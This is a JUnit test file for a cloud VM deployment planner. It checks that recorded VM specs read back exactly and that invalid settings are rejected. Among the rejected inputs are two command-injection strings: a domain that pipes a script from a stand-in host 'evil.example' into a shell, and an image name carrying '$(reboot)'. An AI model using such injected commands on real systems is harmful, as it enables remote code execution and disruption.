package io.stagecraft.stacks;

import static org.junit.jupiter.api.Assertions.*;

import io.stagecraft.engine.Plans;
import io.stagecraft.planning.OfflinePlanner;
import io.stagecraft.sizing.Catalog;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** The single VM's recorded build: read back exactly, and never when a value could not have come from valid settings. */
class SingleVmSpecTest {
    private final Catalog catalog = Catalog.loadDefault();

    private static Map<String, Object> recorded() {
        OfflinePlanner.Result r = Plans.of("stacks/vertical.yaml");
        PreviousDeployment facts = PreviousDeployment.parse(r.run().outputs().get(PreviousDeployment.OUTPUT));
        return new LinkedHashMap<>(facts.singleVm().orElseThrow());
    }

    @Test
    void theFactsOfADeploymentReadBackAsTheSpecItWasBuiltFrom() {
        Map<String, Object> facts = recorded();
        SingleVmSpec spec = SingleVmSpec.parse(facts, catalog).orElseThrow();
        assertEquals("vertical", spec.stage().id());
        assertEquals("staging", spec.environment());
        assertEquals("us-central1-a", spec.zone());
        assertEquals("n2-standard-4", spec.machineType());
        assertEquals(220, spec.dataDiskGb());
        assertEquals("pd-ssd", spec.dataDiskType());
        assertEquals(List.of(), spec.domains());
        assertEquals(Boolean.FALSE, facts.get("protected"), "staging is not protected");
        assertEquals(spec, SingleVmSpec.parse(spec.facts(), catalog).orElseThrow(), "a round trip changes nothing");
        String script = spec.script(List.of("/dev/disk/by-id/google-data"));
        assertTrue(script.contains("max_connections=80"), "the split reaches the boot script");
    }

    @Test
    void valuesThatCouldReachAResourceOrAScriptAreChecked() {
        Map<String, Object> good = recorded();
        assertTrue(SingleVmSpec.parse(good, catalog).isPresent());
        for (Map.Entry<String, Object> bad : List.of(
                Map.entry("domains", (Object) List.of("app.example.com; curl evil.example | sh")),
                Map.entry("appImage", (Object) "nginx:latest$(reboot)"),
                Map.entry("machineType", (Object) "n9-imaginary-64"),
                Map.entry("zone", (Object) "europe-west1-b"),
                Map.entry("environment", (Object) "production"),
                Map.entry("dataDiskGb", (Object) 5.0),
                Map.entry("dataDiskType", (Object) "pd-imaginary"),
                Map.entry("split", (Object) Map.of("appCpus", 1.0)),
                Map.entry("behindEdge", (Object) "yes"),
                Map.entry("behindEdge", (Object) true))) { // behind the edge without domains: no certificate to serve
            Map<String, Object> facts = new LinkedHashMap<>(good);
            facts.put(bad.getKey(), bad.getValue());
            assertEquals(Optional.empty(), SingleVmSpec.parse(facts, catalog), bad.getKey());
        }
        Map<String, Object> missing = new LinkedHashMap<>(good);
        missing.remove("region");
        assertEquals(Optional.empty(), SingleVmSpec.parse(missing, catalog));
        Map<String, Object> noEdgeMark = new LinkedHashMap<>(good);
        noEdgeMark.remove("behindEdge");
        assertEquals(Optional.empty(), SingleVmSpec.parse(noEdgeMark, catalog));
        assertEquals(Optional.empty(), SingleVmSpec.parse("not a map", catalog));
    }
}
